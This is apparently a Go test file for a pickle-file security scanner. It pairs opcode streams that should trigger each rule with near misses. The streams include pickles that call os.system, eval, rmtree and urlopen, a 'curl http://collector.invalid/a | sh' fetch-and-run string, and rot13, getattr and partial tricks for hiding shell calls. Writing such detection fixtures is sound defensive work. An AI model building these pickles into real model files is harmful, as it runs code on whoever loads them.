package contract

import (
	"bytes"
	"slices"
	"strings"
	"testing"

	"github.com/andiron-dev/andiron/finding"
	"github.com/andiron-dev/andiron/internal/testkit"
	"github.com/andiron-dev/andiron/pickle"
)

// example is a stream that a rule fires on, and a near miss that it does not.
// Lines are separated by ";".
type example struct{ fires, quiet string }

// tensor is an honest rebuild of a tensor of four floats.
const tensor = "GLOBAL torch._utils _rebuild_tensor_v2;MARK;MARK;BINUNICODE storage;GLOBAL torch FloatStorage;BINUNICODE 0;BINUNICODE cpu;BININT1 4;TUPLE;BINPERSID;" +
	"BININT1 0;BININT1 4;TUPLE1;BININT1 1;TUPLE1;NEWFALSE;GLOBAL collections OrderedDict;EMPTY_TUPLE;REDUCE;TUPLE;REDUCE"

func call(module, name string, args ...string) string {
	s := "PROTO 2;GLOBAL " + module + " " + name + ";MARK;"
	for _, a := range args {
		s += "BINUNICODE " + a + ";"
	}
	return s + "TUPLE;REDUCE;STOP"
}

// safe calls a listed function.
var safe = call("torch", "device", "cpu")

var examples = map[string]example{
	"PKL001": {call("posix", "system", "touch x"), "PROTO 2;EMPTY_DICT;BINUNICODE cmd;BINUNICODE os.system('touch x');SETITEM;STOP"},
	"PKL002": {call("__builtin__", "eval", "1+1"), safe},
	"PKL003": {call("ctypes", "CDLL", "libmarker.so"), safe},
	"PKL004": {call("pickle", "loads", "N."), "PROTO 2;GLOBAL torch.storage _load_from_bytes;BINBYTES N.;TUPLE1;REDUCE;STOP"},
	"PKL005": {call("io", "open", "marker", "w"), call("pathlib", "PosixPath", "marker")},
	"PKL006": {call("shutil", "rmtree", "marker"), call("pathlib", "PosixPath", "marker")},
	"PKL007": {call("urllib.request", "urlopen", "http://collector.invalid/"), "PROTO 2;BINUNICODE http://collector.invalid/;STOP"},
	"PKL008": {call("io", "open", "marker", "rb"), call("pathlib", "PosixPath", "marker")},
	"PKL009": {call("importlib", "import_module", "marker"), safe},
	"PKL010": {"PROTO 2;GLOBAL os _exit;BININT1 1;TUPLE1;REDUCE;STOP", safe},
	"PKL011": {call("os", "putenv", "A", "b"), safe},
	"PKL012": {"PROTO 2;GLOBAL builtins setattr;MARK;GLOBAL torch Tensor;BINUNICODE add;NONE;TUPLE;REDUCE;STOP", safe},
	"PKL013": {"PROTO 2;EMPTY_DICT;BINUNICODE f;GLOBAL os system;SETITEM;STOP", "PROTO 2;EMPTY_DICT;BINUNICODE f;GLOBAL torch relu;SETITEM;STOP"},
	"PKL020": {call("gc", "get_objects"), "PROTO 2;GLOBAL builtins getattr;GLOBAL signal Signals;BINUNICODE SIGINT;TUPLE2;REDUCE;STOP"},
	"PKL021": {"PROTO 4;SHORT_BINUNICODE vendor.model;SHORT_BINUNICODE Outer.Inner;STACK_GLOBAL;STOP", "PROTO 4;SHORT_BINUNICODE zoneinfo;SHORT_BINUNICODE ZoneInfo._unpickle;STACK_GLOBAL;SHORT_BINUNICODE Europe/Berlin;BININT1 1;TUPLE2;REDUCE;STOP"},
	"PKL022": {"PROTO 2;GLOBAL builtins map;GLOBAL builtins len;EMPTY_LIST;TUPLE2;REDUCE;STOP", "PROTO 2;GLOBAL functools partial;GLOBAL torch relu;TUPLE1;REDUCE;STOP"},
	"PKL023": {"PROTO 2;GLOBAL atexit register;GLOBAL builtins len;TUPLE1;REDUCE;STOP", safe},
	"PKL024": {"PROTO 2;GLOBAL builtins type;BINUNICODE X;EMPTY_TUPLE;EMPTY_DICT;TUPLE3;REDUCE;STOP", "PROTO 2;GLOBAL builtins type;STOP"},
	"PKL025": {call("codecs", "decode", "flfgrz", "rot13"), call("_codecs", "encode", "abc", "latin1")},
	"PKL026": {"PROTO 4;SHORT_BINUNICODE os;GLOBAL builtins str;SHORT_BINUNICODE x;TUPLE1;REDUCE;STACK_GLOBAL;STOP", "PROTO 4;SHORT_BINUNICODE torch;SHORT_BINUNICODE Tensor;STACK_GLOBAL;STOP"},
	"PKL027": {"PROTO 2;GLOBAL vendor.model make;EMPTY_TUPLE;REDUCE;EMPTY_TUPLE;REDUCE;STOP", "PROTO 2;GLOBAL vendor.model make;EMPTY_TUPLE;REDUCE;STOP"},
	"PKL030": {"PROTO 2;EXT1 7;STOP", "PROTO 2;BININT1 7;STOP"},
	"PKL031": {"PROTO 2;GLOBAL numpy mean;EMPTY_DICT;BUILD;STOP", "PROTO 2;GLOBAL argparse Namespace;EMPTY_TUPLE;NEWOBJ;EMPTY_DICT;BUILD;STOP"},
	"PKL032": {"PROTO 2;GLOBAL argparse Namespace;EMPTY_TUPLE;NEWOBJ;EMPTY_DICT;BINUNICODE __setstate__;GLOBAL builtins len;SETITEM;BUILD;STOP", "PROTO 2;GLOBAL argparse Namespace;EMPTY_TUPLE;NEWOBJ;EMPTY_DICT;BINUNICODE _setstate_;GLOBAL builtins len;SETITEM;BUILD;STOP"},
	"PKL033": {"PROTO 2;GLOBAL sys path;NONE;APPEND;STOP", "PROTO 2;GLOBAL collections deque;EMPTY_TUPLE;REDUCE;NONE;APPEND;STOP"},
	"PKL034": {"PROTO 2;GLOBAL vendor.model make;EMPTY_TUPLE;REDUCE;EMPTY_TUPLE;REDUCE;NONE;NONE;SETITEM;STOP", "PROTO 2;GLOBAL collections OrderedDict;EMPTY_TUPLE;REDUCE;NONE;NONE;SETITEM;STOP"},
	"PKL035": {"PROTO 2;" + tensor + ";BININT1 0;BININT1 1;SETITEM;STOP", "PROTO 2;EMPTY_DICT;BINUNICODE w;" + tensor + ";SETITEM;STOP"},
	"PKL036": {"PROTO 2;GLOBAL sys modules;BINUNICODE torch;NONE;SETITEM;STOP", "PROTO 2;EMPTY_DICT;BINUNICODE torch;NONE;SETITEM;STOP"},
	"PKL037": {strings.Replace("PROTO 2;"+tensor+";STOP", "GLOBAL collections OrderedDict;EMPTY_TUPLE;REDUCE", "EMPTY_DICT;BININT1 0;GLOBAL torch relu;SETITEM", 1), "PROTO 2;" + tensor + ";STOP"},
	"PKL040": {"PROTO 2;GLOBAL vendor.model Config;STOP", "PROTO 2;GLOBAL argparse Namespace;STOP"},
	"PKL041": {call("vendor.model", "Config", "small"), "PROTO 2;GLOBAL argparse Namespace;EMPTY_TUPLE;NEWOBJ;STOP"},
	"PKL042": {"PROTO 2;GLOBAL __main__ Net;EMPTY_TUPLE;NEWOBJ;STOP", "PROTO 2;GLOBAL torch.nn.modules.linear Linear;EMPTY_TUPLE;NEWOBJ;STOP"},
	"PKL043": {call("vendor.model", "prepare", "curl http://collector.invalid/a | sh"), call("vendor.model", "prepare", "catalogue of shells")},
	"PKL044": {call("vendor.process", "system", "x"), call("vendor.process", "systematic", "x")},
	"PKL045": {"PROTO 2;BINUNICODE somewhere;BINPERSID;STOP", "PROTO 2;" + tensor + ";STOP"},
	"PKL050": {strings.TrimSuffix(call("vendor.model", "Config", "small"), "STOP") + "POP;POP;POP", call("vendor.model", "Config", "small")},
	"PKL051": {"PROTO 2;EMPTY_DICT", "PROTO 2;EMPTY_DICT;STOP"},
	"PKL052": {"PROTO 2;" + strings.Repeat("NONE;", 70) + "STOP", "PROTO 2;NONE;STOP"},
	"PKL053": {"NONE;PUT 1_0;STOP", "NONE;PUT 0;STOP"},
	"PKL054": {"PROTO 4;FRAME 1;SHORT_BINUNICODE abc;STOP", "PROTO 4;FRAME 2;NONE;STOP"},
	"PKL055": {"PROTO 2;NONE;BINPUT 9;STOP", "PROTO 2;NONE;BINPUT 0;STOP"},
	"PKL056": {"PROTO 2;NONE;NONE;STOP", "PROTO 2;NONE;STOP"},
	"PKL057": {"PROTO 2;EMPTY_TUPLE;" + strings.Repeat("DUP;TUPLE2;", 60) + "STOP", "PROTO 2;EMPTY_TUPLE;DUP;TUPLE2;STOP"},
	"PKL090": {call("argparse", "Namespace"), safe},
	"PKL095": {safe, ""},
}

func assemble(text string) []byte { return testkit.Pickle(strings.Split(text, ";")...) }

// judgeText judges the first stream of an example, in the container of torch.save.
func judgeText(id, text string) Judgement {
	b := assemble(text)
	var opt pickle.Options
	if id == "PKL052" {
		opt.Limits.MaxOps = 64
	}
	container := "torch-zip"
	if text == "" { // PKL095 speaks about torch.load only
		b, container = assemble(safe), "joblib"
	}
	return Judge(pickle.Run(bytes.NewReader(b), int64(len(b)), opt), Options{Container: container})
}

func TestExamples(t *testing.T) {
	for _, r := range Rules {
		e, ok := examples[r.ID]
		if !ok {
			t.Errorf("%s has no example", r.ID)
			continue
		}
		has := func(j Judgement) bool {
			return slices.ContainsFunc(j.Issues, func(is Issue) bool { return is.Rule == r })
		}
		if j := judgeText(r.ID, e.fires); !has(j) {
			t.Errorf("%s does not fire: %s", r.ID, show(j))
		}
		if j := judgeText(r.ID, e.quiet); has(j) {
			t.Errorf("%s fires on its near miss: %s", r.ID, show(j))
		}
	}
	if len(examples) != len(Rules) {
		t.Errorf("%d examples for %d rules", len(examples), len(Rules))
	}
}

func show(j Judgement) string {
	var b strings.Builder
	for _, is := range j.Issues {
		b.WriteString(is.Rule.ID + " " + is.Message + " " + strings.Join(is.Evidence, " | ") + "\n")
	}
	return b.String()
}

// above lists the ids of issues that raise the verdict above a level.
func above(j Judgement, level finding.Verdict) []string {
	var ids []string
	for _, is := range j.Issues {
		if is.Rule.Verdict > level || is.Undetermined {
			ids = append(ids, is.Rule.ID)
		}
	}
	return ids
}

// One root cause is one finding, however many steps lead to it.
func TestOneFindingPerCause(t *testing.T) {
	getattr := "GLOBAL builtins getattr;GLOBAL importlib import_module;BINUNICODE os;TUPLE1;REDUCE;BINUNICODE system;TUPLE2;REDUCE"
	tests := []struct{ name, text, message string }{
		{"direct", call("os", "system", "touch x"), `loading would run the shell command "touch x" with os.system`},
		{"alias", call("nt", "system", "touch x"), `loading would run the shell command "touch x" with os.system`},
		{"dotted", "PROTO 4;SHORT_BINUNICODE torch.library;SHORT_BINUNICODE torch.os.system;STACK_GLOBAL;SHORT_BINUNICODE touch x;TUPLE1;REDUCE;STOP", `loading would run the shell command "touch x" with os.system`},
		{"private", "PROTO 4;SHORT_BINUNICODE random;SHORT_BINUNICODE _os.system;STACK_GLOBAL;SHORT_BINUNICODE touch x;TUPLE1;REDUCE;STOP", `loading would run the shell command "touch x" with os.system`},
		{"getattr", "PROTO 2;" + getattr + ";BINUNICODE touch x;TUPLE1;REDUCE;STOP", `loading would run the shell command "touch x" with os.system`},
		{"INST", "MARK;UNICODE touch x;INST os system;STOP", `loading would run the shell command "touch x" with os.system`},
		{"map", "PROTO 2;GLOBAL builtins list;GLOBAL builtins map;GLOBAL os system;EMPTY_LIST;BINUNICODE touch x;APPEND;TUPLE2;REDUCE;TUPLE1;REDUCE;STOP", `loading would run the shell command "touch x" with os.system, which is handed to builtins.map`},
		{"methodcaller", "PROTO 2;GLOBAL operator methodcaller;BINUNICODE system;BINUNICODE touch x;TUPLE2;REDUCE;GLOBAL importlib import_module;BINUNICODE os;TUPLE1;REDUCE;TUPLE1;REDUCE;STOP", `loading would run the shell command "touch x" with os.system`},
		{"partial", "PROTO 2;GLOBAL functools partial;GLOBAL os system;BINUNICODE touch x;TUPLE2;REDUCE;EMPTY_TUPLE;REDUCE;STOP", `loading would run the shell command "touch x" with os.system, which is handed to functools.partial`},
		{"join", "PROTO 2;GLOBAL os system;GLOBAL builtins getattr;BINUNICODE \" \";BINUNICODE join;TUPLE2;REDUCE;EMPTY_LIST;MARK;BINUNICODE touch;BINUNICODE x;APPENDS;TUPLE1;REDUCE;TUPLE1;REDUCE;STOP", `loading would run the shell command "touch x" with os.system`},
		{"rot13", "PROTO 2;GLOBAL os system;GLOBAL codecs decode;BINUNICODE gbhpu k;BINUNICODE rot13;TUPLE2;REDUCE;TUPLE1;REDUCE;STOP", `loading would run the shell command "touch x" with os.system`},
	}
	for _, tt := range tests {
		j := judgeText("", tt.text)
		var bad []Issue
		for _, is := range j.Issues {
			if is.Rule.Verdict > finding.Framework && is.Rule != pkl037 {
				bad = append(bad, is)
			}
		}
		if len(bad) == 0 || bad[0].Message != tt.message && (len(bad) < 2 || bad[1].Message != tt.message) {
			t.Errorf("%s: no message %q in:\n%s", tt.name, tt.message, show(j))
		}
		if len(bad) > 1 {
			t.Errorf("%s: %d findings:\n%s", tt.name, len(bad), show(j))
		}
	}
}

// What must not be called later must not be planted either: a __setstate__ or a
// partial could call it.
func TestNeverHanded(t *testing.T) {
	for _, text := range []string{
		"PROTO 2;GLOBAL sklearn.isotonic IsotonicRegression;EMPTY_TUPLE;NEWOBJ;EMPTY_DICT;BINUNICODE _build_f;GLOBAL torch.storage _load_from_bytes;SETITEM;BUILD;STOP",
		"PROTO 2;GLOBAL functools partial;GLOBAL torch.storage _load_from_bytes;BINBYTES N.;TUPLE2;REDUCE;STOP",
		"PROTO 2;GLOBAL torch._tensor _rebuild_from_type_v2;MARK;GLOBAL torch.storage _load_from_bytes;GLOBAL torch Tensor;BINBYTES N.;TUPLE1;NONE;TUPLE;REDUCE;STOP",
		"PROTO 2;GLOBAL collections defaultdict;GLOBAL builtins getattr;TUPLE1;REDUCE;STOP",
		// numpy calls the second argument with the first.
		"PROTO 2;GLOBAL numpy.random._pickle __generator_ctor;BINBYTES N.;GLOBAL torch.nn.modules.container Sequential;EMPTY_TUPLE;NEWOBJ;EMPTY_DICT;BINUNICODE _modules;GLOBAL collections OrderedDict;EMPTY_TUPLE;REDUCE;BINUNICODE 0;GLOBAL torch.storage _load_from_bytes;SETITEM;SETITEM;BUILD;TUPLE2;REDUCE;STOP",
		"PROTO 2;GLOBAL numpy.random._pickle __generator_ctor;EMPTY_DICT;GLOBAL builtins print;TUPLE2;REDUCE;STOP",
		"PROTO 2;GLOBAL numpy.random._pickle __bit_generator_ctor;GLOBAL argparse Namespace;TUPLE1;REDUCE;STOP",
		// The bytes of the array would be pointers.
		"PROTO 2;GLOBAL numpy dtype;BINUNICODE O8;TUPLE1;REDUCE;MARK;BININT1 3;BINUNICODE |;NONE;NONE;NONE;BININT -1;BININT -1;BININT1 0;TUPLE;BUILD;STOP",
		// Hidden in an instance that holds items, and in the state of a partial.
		"PROTO 2;GLOBAL collections OrderedDict;EMPTY_TUPLE;REDUCE;BINUNICODE a;GLOBAL torch.storage _load_from_bytes;SETITEM;STOP",
		"PROTO 2;GLOBAL functools partial;GLOBAL builtins print;TUPLE1;REDUCE;MARK;GLOBAL torch.storage _load_from_bytes;BINBYTES N.;TUPLE1;EMPTY_DICT;NONE;TUPLE;BUILD;STOP",
		// Constructors that fetch models, evaluate a configuration or make files.
		"PROTO 2;GLOBAL collections defaultdict;GLOBAL functools partial;GLOBAL ultralytics.nn.tasks DetectionModel;EMPTY_DICT;TUPLE2;REDUCE;TUPLE1;REDUCE;STOP",
		"PROTO 2;GLOBAL argparse Namespace;EMPTY_TUPLE;NEWOBJ;EMPTY_DICT;BINUNICODE get;GLOBAL sentence_transformers.SentenceTransformer SentenceTransformer;SETITEM;BUILD;STOP",
		"PROTO 2;GLOBAL pandas.core.indexes.base _new_Index;GLOBAL numpy memmap;EMPTY_DICT;BINUNICODE filename;BINUNICODE /tmp/andiron-marker;SETITEM;TUPLE2;REDUCE;STOP",
		// torch calls data.detach() of what is no tensor.
		"PROTO 2;GLOBAL torch._utils _rebuild_parameter;GLOBAL argparse Namespace;EMPTY_TUPLE;NEWOBJ;NEWTRUE;GLOBAL collections OrderedDict;EMPTY_TUPLE;REDUCE;TUPLE3;REDUCE;STOP",
		"PROTO 2;GLOBAL argparse Namespace;EMPTY_TUPLE;NEWOBJ;GLOBAL collections OrderedDict;EMPTY_LIST;BINUNICODE __setstate__;GLOBAL builtins print;TUPLE2;APPEND;TUPLE1;REDUCE;BUILD;STOP",
		"PROTO 2;GLOBAL scipy.stats._continuous_distns norm_gen;EMPTY_TUPLE;NEWOBJ;EMPTY_DICT;BUILD;STOP",
	} {
		if j := judgeText("", text); above(j, finding.Framework) == nil {
			t.Errorf("%s passes", text)
		}
	}
}

// Data in plain containers never raises a verdict, whatever it looks like.
func TestDataIsNotEvidence(t *testing.T) {
	text := "PROTO 2;EMPTY_LIST;MARK;BINUNICODE curl http://a.invalid | sh;BINUNICODE os.system('id');BINUNICODE /etc/cron.d/x;BINBYTES \"\\x80\\x02cos\\nsystem\\n.\";APPENDS;STOP"
	if j := judgeText("", text); len(above(j, finding.Safe)) > 0 {
		t.Errorf("data raises: %s", show(j))
	}
}

func TestNested(t *testing.T) {
	j := judgeText("", "PROTO 2;GLOBAL torch.storage _load_from_bytes;GLOBAL _codecs encode;BINUNICODE \"\\u0080\\u0002N.\";BINUNICODE latin1;TUPLE2;REDUCE;TUPLE1;REDUCE;STOP")
	if len(j.Nested) != 1 || j.Nested[0].Kind != "torch" {
		t.Fatalf("nested = %v\n%s", j.Nested, show(j))
	}
	if b, ok := j.Nested[0].Bytes(); !ok || string(b) != "\x80\x02N." {
		t.Errorf("bytes = %q, %v", b, ok)
	}
	if got := above(j, finding.Framework); got != nil {
		t.Errorf("issues %v\n%s", got, show(j))
	}
}

func TestWeightsOnly(t *testing.T) {
	tests := []struct {
		text  string
		loads string // one letter per line of releases
		allow string
	}{
		{"PROTO 2;" + tensor + ";STOP", "yyyyyy", ""},
		{"PROTO 2;BINFLOAT 1.5;STOP", "nyyyyy", ""},
		{call("torch", "device", "cpu"), "nyyyyy", ""},
		{call("__builtin__", "bytearray"), "nnyyyy", "__builtin__"},
		{call("__builtin__", "complex"), "nnnyyy", ""},
		{call("argparse", "Namespace"), "nnnnnn", "argparse.Namespace"},
		{call("os", "system", "x"), "nnnnnn", ""},
		{"PROTO 4;NONE;MEMOIZE;STOP", "nnnnnn", ""},
		{"PROTO 2;" + tensor + ";BININT1 0;BININT1 1;SETITEM;STOP", "yyyynn", ""},
	}
	for _, tt := range tests {
		got := ""
		ws := judgeText("", tt.text).WeightsOnly
		for _, w := range ws {
			got += map[bool]string{true: "y", false: "n"}[w.Loads]
		}
		if got != tt.loads {
			t.Errorf("%s: loads %s, want %s: %+v", tt.text, got, tt.loads, ws)
		}
		if last := ws[len(ws)-1]; tt.allow == "argparse.Namespace" && (len(last.Allow) != 1 || last.Allow[0] != tt.allow) {
			t.Errorf("%s: allow %q", tt.text, last.Allow)
		}
	}
}
